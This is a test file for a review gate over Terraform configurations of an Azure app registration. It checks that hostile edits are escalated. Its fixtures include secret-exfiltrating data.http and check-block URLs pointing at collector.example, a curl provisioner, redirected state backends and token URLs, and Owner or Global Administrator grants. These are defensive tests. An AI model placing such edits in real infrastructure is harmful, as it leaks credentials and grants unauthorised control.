import { cpSync, mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { synthesizeCorsoApp } from "../../lib/app/corso-app";
import { review } from "../../lib/review/run";
import { type StackJson, defaultStackJson, writeSynthesis } from "../support/synthesis";

// The gate passes only what it positively recognises: each hostile edit of the default stack's
// JSON below exits 3 with a line naming it; the project's own syntheses exit 0 with nothing unread.

const root = join(__dirname, "../..");
const APP = "Corso_Application_4C8105D7";
const SP_ADDRESS = "azuread_service_principal.Corso_ServicePrincipal_A5B3EA5A";
const SP = `\${${SP_ADDRESS}.object_id}`;
const SECRET_A = "azuread_application_password.Corso_ClientSecretA_Password_982B7135";
const TENANT = "72f988bf-86f1-41af-91ab-2d7cd011db47";
const OTHER_TENANT = "5d4c3b2a-1f0e-4d9c-8b7a-6f5e4d3c2b1a";
const VAULT =
  "/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/resourceGroups/corso/providers/Microsoft.KeyVault/vaults/corso-kv";

/** Markdown lines without the escapes that keep input literal, so that a test reads them as written. */
const plain = (lines: readonly string[]) => lines.map((l) => l.replace(/\\(.)/g, "$1"));

function section(markdown: string, title: string): string[] {
  const start = markdown.indexOf(title);
  if (start < 0) return [];
  const end = markdown.indexOf("\n\n", markdown.indexOf("\n\n", start) + 2);
  return markdown
    .slice(start, end)
    .split("\n")
    .filter((l) => l.startsWith("- "));
}

function reviewDirs(dir: string, base: string) {
  const result = review({ dir, base });
  return {
    ...result,
    escalations: plain(section(result.markdown, "**Escalations")),
    others: plain(section(result.markdown, "**Other changes")),
  };
}

/** Reviews `edit` applied to the default stack against `base` (the default stack unless given). */
function reviewEdit(edit: (json: StackJson) => void, baseEdit: (json: StackJson) => void = () => undefined) {
  const head = defaultStackJson();
  edit(head);
  const base = defaultStackJson();
  baseEdit(base);
  return reviewDirs(writeSynthesis({ corso: head }), writeSynthesis({ corso: base }));
}

const app = (json: StackJson) => json.resource.azuread_application[APP];

describe("resource and data types the model does not know", () => {
  it("escalates an azurerm_role_assignment giving Corso's service principal Owner, saying what it grants", () => {
    const result = reviewEdit((json) => {
      json.resource.azurerm_role_assignment = {
        owner: {
          scope: "/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333",
          role_definition_name: "Owner",
          principal_id: SP,
        },
      };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: not reviewed, new: `azurerm_role_assignment.owner`: not a resource type this project writes: " +
        `it gives the Azure role Owner to ${SP} over /subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333`,
    ]);
  });

  it("escalates a federated credential on a managed identity, naming who can sign in as it", () => {
    const result = reviewEdit((json) => {
      json.resource.azurerm_federated_identity_credential = {
        github: {
          name: "github",
          resource_group_name: "corso",
          parent_id:
            "/subscriptions/x/resourceGroups/corso/providers/Microsoft.ManagedIdentity/userAssignedIdentities/mi",
          issuer: "https://token.actions.githubusercontent.com",
          subject: "repo:someone/else:ref:refs/heads/main",
          audience: ["api://AzureADTokenExchange"],
        },
      };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: not reviewed, new: `azurerm_federated_identity_credential.github`: not a resource type this project writes: " +
        "whoever https://token.actions.githubusercontent.com issues tokens for as repo:someone/else:ref:refs/heads/main " +
        "signs in as the managed identity /subscriptions/x/resourceGroups/corso/providers/Microsoft.ManagedIdentity/userAssignedIdentities/mi",
    ]);
  });

  it("escalates a data.http whose URL carries the client secret, naming the secret it reaches", () => {
    const url = `https://collector.example/?s=\${${SECRET_A}.value}`;
    const result = reviewEdit((json) => {
      json.data.http = { exfil: { url } };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      `- \`corso\`: not reviewed, new: \`data.http.exfil\`: not a data source type this project writes: Terraform requests ${url} at every plan; it can reach a secret (${SECRET_A}.value)`,
    ]);
  });

  it("escalates a terraform_data holding nonsensitive(secret), and an output that reads it back", () => {
    const result = reviewEdit((json) => {
      json.resource.terraform_data = { keep: { input: `\${nonsensitive(${SECRET_A}.value)}` } };
      json.output.kept = { value: "${terraform_data.keep.output}" };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: not reviewed, new: `terraform_data.keep`: not a resource type this project writes: it keeps values in the state and can run provisioners; " +
        `it can reach a secret (${SECRET_A}.value)`,
      "- `corso`: not reviewed, new: `output.kept` at `value`: it can reach a secret (terraform_data.keep.output), and it is not marked sensitive: " +
        "only AZURE_CLIENT_SECRET and CORSO_PASSPHRASE, sensitive and written as this project writes them, may",
    ]);
  });

  it("escalates a check block that reads its own data source", () => {
    const result = reviewEdit((json) => {
      json.check = {
        probe: {
          data: { http: { ping: { url: `https://collector.example/\${${SECRET_A}.value}` } } },
          assert: [{ condition: "${true}", error_message: "never" }],
        },
      };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: not reviewed, new: `check.probe`: a check block, which this project never writes; " +
        `it reads its own data sources at every plan (data.http.ping); it can reach a secret (${SECRET_A}.value)`,
    ]);
  });

  it("escalates a removed block with a provisioner", () => {
    const result = reviewEdit((json) => {
      json.removed = [
        {
          from: "azuread_application.old",
          lifecycle: { destroy: false },
          provisioner: [{ "local-exec": { command: "curl https://collector.example", when: "destroy" } }],
        },
      ];
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: not reviewed, new: `removed[0]`: a removed block for azuread_application.old, which this project never writes; " +
        "its provisioners run commands when Terraform destroys the object",
    ]);
  });
});

describe("providers and state", () => {
  it("escalates a required provider downloaded from another source", () => {
    const result = reviewEdit((json) => {
      json.terraform.required_providers.azuread.source = "someone/azuread";
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      '- `corso`: not reviewed, new: `terraform.required_providers.azuread` at `source`: the azuread provider is downloaded from "someone/azuread", not hashicorp/azuread',
    ]);
  });

  it("escalates a provider's OIDC request URL set, and changed", () => {
    const oidc = (url: string) => (json: StackJson) => {
      json.provider.azuread[0].oidc_request_url = url;
    };
    const set = reviewEdit(oidc("https://collector.example/token"));
    expect(set.status).toBe(3);
    expect(set.escalations).toEqual([
      "- `corso`: not reviewed, new: `provider.azuread` at `oidc_request_url`: not a setting this project gives the provider " +
        '(it takes its credentials from the environment), set to "https://collector.example/token"',
    ]);
    const changed = reviewEdit(oidc("https://collector.example/token"), oidc("https://token.actions.example/"));
    expect(changed.status).toBe(3);
    expect(changed.escalations).toEqual([
      "- `corso`: not reviewed, changed: `provider.azuread` at `oidc_request_url`: not a setting this project gives the provider " +
        '(it takes its credentials from the environment), set to "https://collector.example/token"',
    ]);
  });

  it("escalates an aliased provider with other credentials, and names the identity a client config read through it describes", () => {
    const result = reviewEdit((json) => {
      json.provider.azuread.push({ alias: "other", tenant_id: OTHER_TENANT, client_id: "x", client_secret: "y" });
      json.data.azuread_client_config.other = { provider: "azuread.other" };
      app(json).owners.push("${data.azuread_client_config.other.object_id}");
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      `- \`corso\`: new provider configuration \`azuread.other\`, signing in to tenant \`${OTHER_TENANT}\`: what names it acts as whichever identity it signs in as`,
      `- \`corso\`: \`Corso Backup\`: new owner the identity provider azuread.other signs in as (tenant ${OTHER_TENANT}) (an owner can add credentials and act as the app)`,
      "- `corso`: not reviewed, new: `provider.azuread.other` at `client_id`: not a setting this project gives the provider " +
        '(it takes its credentials from the environment), set to "x"',
      "- `corso`: not reviewed, new: `provider.azuread.other` at `client_secret`: not a setting this project gives the provider " +
        '(it takes its credentials from the environment), set to "y"',
    ]);
    expect(result.markdown).not.toContain("new owner the deploying identity");
  });

  it("escalates a provider that signs in to another tenant", () => {
    const tenant = (id: string) => (json: StackJson) => {
      json.provider.azuread[0].tenant_id = id;
    };
    const result = reviewEdit(tenant(OTHER_TENANT), tenant(TENANT));
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      `- \`corso\`: provider \`azuread\` now signs in to tenant \`${OTHER_TENANT}\`, was tenant \`${TENANT}\``,
    ]);
  });

  it("escalates an HCP Terraform hostname changed", () => {
    const cloud = (hostname?: string) => (json: StackJson) => {
      json.terraform.backend = undefined;
      json.terraform.cloud = { organization: "acme", workspaces: { name: "corso" }, ...(hostname ? { hostname } : {}) };
    };
    const result = reviewEdit(cloud("tfe.collector.example"), cloud());
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: state moves from HCP Terraform, organization `acme`, workspace `corso` to HCP Terraform, organization `acme`, " +
        "workspace `corso` on `tfe.collector.example`: the state holds the client secret",
    ]);
  });

  it("names a move to HCP Terraform whose workspace the block does not name", () => {
    const result = reviewEdit((json) => {
      json.terraform.backend = undefined;
      json.terraform.cloud = { hostname: "tfe.collector.example", organization: "acme" };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: state moves from local file `../../../terraform.corso.tfstate` to HCP Terraform, organization `acme`, " +
        "no workspace named on `tfe.collector.example`: the state holds the client secret",
    ]);
  });

  it("escalates the identity the azurerm backend signs in with", () => {
    const azurerm = (extra: StackJson) => (json: StackJson) => {
      json.terraform.backend = {
        azurerm: { storage_account_name: "st", container_name: "c", key: "corso.tfstate", use_oidc: true, ...extra },
      };
    };
    const result = reviewEdit(azurerm({ use_msi: true, tenant_id: OTHER_TENANT }), azurerm({}));
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: state backend settings change: `backend.azurerm.tenant_id` unset -> " +
        `\`"${OTHER_TENANT}"\`, \`backend.azurerm.use_msi\` unset -> \`true\`: Terraform reads and writes the state, which holds the client secret, with them`,
    ]);
  });

  it("escalates an http backend", () => {
    const result = reviewEdit((json) => {
      json.terraform.backend = { http: { address: "https://collector.example/state" } };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: state moves from local file `../../../terraform.corso.tfstate` to `http` backend: the state holds the client secret",
      "- `corso`: not reviewed, new: `terraform.backend.http`: a http backend: this project keeps state in a local file, Azure Storage or HCP Terraform only, and the state holds the client secret",
    ]);
  });
});

describe("outputs and secrets", () => {
  const leak = (value: unknown, extra: StackJson = { sensitive: true }) =>
    reviewEdit((json) => {
      json.locals = { current: `\${${SECRET_A}.value}` };
      json.output.leak = { value, ...extra };
    });
  const only = "only AZURE_CLIENT_SECRET and CORSO_PASSPHRASE, sensitive and written as this project writes them, may";

  it.each([
    ["plainly", `\${${SECRET_A}.value}`, `${SECRET_A}.value`],
    ["as an object", { secret: `\${${SECRET_A}.value}` }, `${SECRET_A}.value`],
    ["in an object's key", { [`\${${SECRET_A}.value}`]: "x" }, `${SECRET_A}.value`],
    ["with index syntax", `\${${SECRET_A}["value"]}`, `${SECRET_A}["value"]`],
    ["through a function", `\${base64encode(nonsensitive(${SECRET_A}.value))}`, `${SECRET_A}.value`],
  ])("escalates an output holding the secret %s", (_how, value, reached) => {
    const result = leak(value);
    expect(result.status).toBe(3);
    expect(result.escalations).toContain(
      `- \`corso\`: not reviewed, new: \`output.leak\` at \`value\`: it can reach a secret (${reached}): ${only}`,
    );
  });

  it("escalates an output holding the secret through a local value", () => {
    const result = leak("${local.current}");
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      `- \`corso\`: not reviewed, new: \`local.current\`: a local value, which this project never writes; it can reach a secret (${SECRET_A}.value)`,
      `- \`corso\`: not reviewed, new: \`output.leak\` at \`value\`: it can reach a secret (local.current): ${only}`,
    ]);
  });

  it("escalates the credential output made non-sensitive", () => {
    const result = reviewEdit((json) => {
      delete json.output.AZURE_CLIENT_SECRET.sensitive;
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: not reviewed, new: `output.AZURE_CLIENT_SECRET` at `value`: it can reach a secret " +
        `(azuread_application_password.Corso_ClientSecretB_Password_B0FEA792.value), and it is not marked sensitive: ${only}`,
    ]);
  });

  it("escalates count on a password", () => {
    const result = reviewEdit((json) => {
      json.resource.azuread_application_password.Corso_ClientSecretA_Password_982B7135.count = 3;
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      `- \`corso\`: not reviewed, new: \`${SECRET_A}\` at \`count\`: not an argument this project writes for azuread_application_password`,
    ]);
  });

  it("escalates a third secret", () => {
    const result = reviewEdit((json) => {
      json.resource.azuread_application_password.third = {
        application_id: `\${azuread_application.${APP}.id}`,
        display_name: "Corso Backup secret C",
      };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual(["- `corso`: `Corso Backup`: client secrets: 2 -> 3"]);
  });
});

describe("the application's sign-in settings", () => {
  it("escalates app_role_assignment_required removed from its service principal", () => {
    const result = reviewEdit(
      () => undefined,
      (json) => {
        json.resource.azuread_service_principal.Corso_ServicePrincipal_A5B3EA5A.app_role_assignment_required = true;
      },
    );
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: `Corso Backup`: its service principal no longer requires assignment (`app_role_assignment_required`): " +
        "any user or app in the directory can get a token for it",
    ]);
  });

  it('escalates an implicit grant given as the string "true"', () => {
    const result = reviewEdit((json) => {
      app(json).web = { implicit_grant: { access_token_issuance_enabled: "true" } };
    });
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual(["- `corso`: `Corso Backup`: implicit grant now issues access tokens"]);
  });
});

describe("the stacks the deploy runs", () => {
  it("reads stacks/<name>/cdk.tf.json, and escalates a manifest that points the review at a decoy", () => {
    const base = writeSynthesis({ corso: defaultStackJson() });
    const head = writeSynthesis({ corso: defaultStackJson() });
    // The decoy is the base stack; the stack the deploy runs is given an Owner role assignment.
    mkdirSync(join(head, "decoy"));
    cpSync(join(head, "stacks/corso/cdk.tf.json"), join(head, "decoy/cdk.tf.json"));
    const deployed = defaultStackJson();
    deployed.resource.azuread_directory_role_assignment = {
      admin: { role_id: "62e90394-69f5-4237-9190-012177145e10", principal_object_id: SP },
    };
    writeFileSync(join(head, "stacks/corso/cdk.tf.json"), JSON.stringify(deployed));
    writeFileSync(
      join(head, "manifest.json"),
      JSON.stringify({
        version: "0.21.0",
        stacks: { corso: { name: "corso", synthesizedStackPath: "decoy/cdk.tf.json" } },
      }),
    );
    const result = reviewDirs(head, base);
    expect(result.status).toBe(3);
    expect(result.escalations).toEqual([
      "- `corso`: `Corso Backup`: new grant: directory role Global Administrator over the whole directory",
      "- `corso`: not reviewed, new: `manifest.json` at `stacks.corso.synthesizedStackPath`: the manifest points the review at " +
        "decoy/cdk.tf.json, while the deploy runs stacks/corso/cdk.tf.json, which differs: the review reads stacks/corso/cdk.tf.json",
    ]);
  });

  it("reads a stack directory the manifest does not list", () => {
    const base = writeSynthesis({ corso: defaultStackJson() });
    const head = writeSynthesis({ corso: defaultStackJson() });
    mkdirSync(join(head, "stacks/extra"));
    writeFileSync(join(head, "stacks/extra/cdk.tf.json"), JSON.stringify(defaultStackJson()));
    const result = reviewDirs(head, base);
    expect(result.status).toBe(3);
    expect(result.escalations).toContain(
      "- `extra`: not reviewed, new: `stacks/extra/cdk.tf.json`: the deploy runs this stack, and manifest.json does not list it",
    );
    expect(result.escalations).toContain("- `extra`: stack added, granting 14 Microsoft Graph permissions");
  });
});

describe("anything the model does not know", () => {
  it.each<[string, (json: StackJson) => void, string]>([
    ["a moved block", (j) => (j.moved = [{ from: "a.b", to: "c.d" }]), "`moved[0]`"],
    ["a variable", (j) => (j.variable = { x: { default: 1 } }), "`variable`"],
    ["an app role defined on the application", (j) => (app(j).app_role = [{ value: "Admin" }]), "at `app_role`"],
    ["identifier URIs", (j) => (app(j).identifier_uris = ["api://corso"]), "at `identifier_uris`"],
    ["depends_on", (j) => (app(j).depends_on = ["time_rotating.x"]), "at `depends_on`"],
    [
      "a lifecycle setting",
      (j) => (app(j).lifecycle = { replace_triggered_by: ["time_rotating.x"] }),
      "at `lifecycle.replace_triggered_by`",
    ],
    [
      "a service principal taken over with use_existing",
      (j) => (j.resource.azuread_service_principal.Corso_ServicePrincipal_A5B3EA5A.use_existing = true),
      "at `use_existing`",
    ],
    [
      "a Terraform version constraint",
      (j) => (j.terraform.required_version = ">= 1.0"),
      "`terraform.required_version`",
    ],
    [
      "another required provider",
      (j) => (j.terraform.required_providers.http = { source: "hashicorp/http" }),
      "`terraform.required_providers.http`",
    ],
    ["an unknown provider", (j) => (j.provider.http = [{}]), "`provider.http`"],
    [
      "an output's depends_on",
      (j) => (j.output.AZURE_CLIENT_ID.depends_on = ["x"]),
      "`output.AZURE_CLIENT_ID` at `depends_on`",
    ],
    [
      "a data source read through an alias nobody configures",
      (j) => (j.data.azuread_client_config.Corso_ClientConfig_4957E16E.provider = "azuread.ghost"),
      "at `provider`",
    ],
    [
      "an import into something else",
      (j) => (j.import = [{ to: "azuread_group.admins", id: "/groups/x" }]),
      "`import[0]` at `to`",
    ],
    [
      "a rotation in minutes",
      (j) => (j.resource.time_rotating.Corso_ClientSecretA_Rotation_6930F529.rotation_minutes = 1),
      "at `rotation_minutes`",
    ],
  ])("escalates %s", (_what, edit, named) => {
    const result = reviewEdit(edit);
    expect(result.status).toBe(3);
    expect(result.escalations.some((l) => l.includes("not reviewed, new") && l.includes(named))).toBe(true);
  });

  it("lists an unknown element that is unchanged, without escalating, grouped by kind", () => {
    const unknown = (json: StackJson) => {
      json.data.http = { ping: { url: "https://status.example" } };
      json.provider.azuread[0].use_cli = false;
    };
    const result = reviewEdit(unknown, unknown);
    expect(result.status).toBe(0);
    expect(plain(result.markdown.split("\n"))).toEqual(
      expect.arrayContaining([
        "**Not reviewed (2): read these yourself, the review does not model them**",
        "Resource and data source types:",
        "- `data.http.ping`: not a data source type this project writes: Terraform requests https://status.example at every plan",
        "Providers:",
        "- `provider.azuread` at `use_cli`: not a setting this project gives the provider (it takes its credentials from the environment), set to false",
      ]),
    );
  });
});

describe("the project's own syntheses", () => {
  const synthesize = (env: Record<string, string>) => {
    const outdir = join(mkdtempSync(join(tmpdir(), "corso-model-")), "cdktf.out");
    synthesizeCorsoApp({ ...env, CDKTF_OUTDIR: outdir });
    return outdir;
  };
  const adoptConfig = () => {
    const file = join(mkdtempSync(join(tmpdir(), "corso-adopt-")), "corso.config.json");
    writeFileSync(
      file,
      JSON.stringify({
        tenants: [
          {
            name: "contoso",
            tenantId: TENANT,
            deployerIsOwner: false,
            owners: ["11111111-2222-4333-8444-555555555555", "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee"],
            secret: { slots: 1 },
            protectFromDestroy: true,
            adopt: {
              clientId: "1232fe04-0e5b-4b65-8554-0d524d9cba1e",
              applicationObjectId: "b029eba0-8f64-4007-99a6-7dd8b72665ab",
              servicePrincipalObjectId: "4f43f319-4038-4024-acc7-a5614c98d6bb",
              consents: { "Mail.ReadWrite": "GfNDTzhAJECsx6VhTJjWu6KwT_HHVTiqX-6uZbrWaCI" },
              owners: ["0d3c6a5e-9b1f-4e2d-8c7a-1f2e3d4c5b6a"],
            },
          },
        ],
      }),
    );
    return file;
  };

  it.each<[string, () => Record<string, string>]>([
    ["the default stack", () => ({})],
    ["Key Vault delivery with a passphrase", () => ({ CORSO_KEY_VAULT_ID: VAULT, CORSO_KEY_VAULT_PASSPHRASE: "true" })],
    ["examples/single-tenant.json", () => ({ CORSO_CONFIG: join(root, "examples/single-tenant.json") })],
    ["examples/hcp-terraform.json", () => ({ CORSO_CONFIG: join(root, "examples/hcp-terraform.json") })],
    [
      "examples/three-tenants-azurerm.json",
      () => ({ CORSO_CONFIG: join(root, "examples/three-tenants-azurerm.json") }),
    ],
    ["an adopted registration", () => ({ CORSO_CONFIG: adoptConfig() })],
  ])("reviews %s with exit 0 and nothing under Not reviewed", (_what, env) => {
    const dir = synthesize(env());
    for (const result of [review({ dir }), review({ dir, base: dir })]) {
      expect(result.status).toBe(0);
      expect(result.markdown).not.toContain("Not reviewed");
    }
  });

  it.each(["backup-stack", "key-vault-stack"])(
    "reviews examples/%s.ts with exit 0 and nothing under Not reviewed",
    async (name) => {
      const outdir = mkdtempSync(join(tmpdir(), "corso-example-"));
      process.env.CDKTF_OUTDIR = outdir;
      try {
        await jest.isolateModulesAsync(async () => {
          await import(`../../examples/${name}`);
        });
      } finally {
        delete process.env.CDKTF_OUTDIR;
      }
      const result = review({ dir: outdir, base: outdir });
      expect(result.status).toBe(0);
      expect(result.markdown).toContain("## Stack `backup`");
      expect(result.markdown).not.toContain("Not reviewed");
    },
  );

  it("keeps the default stack's report sections", () => {
    const dir = synthesize({});
    const headings = review({ dir })
      .markdown.split("\n")
      .filter((l) => /^#|^\*\*|:$/.test(l));
    expect(headings).toEqual([
      "# Corso registrations in `" + dir + "`",
      "## Stack `corso`",
      "### Corso Backup",
      "Microsoft Graph permissions (14):",
      "Ways to sign in or control it:",
    ]);
  });
});
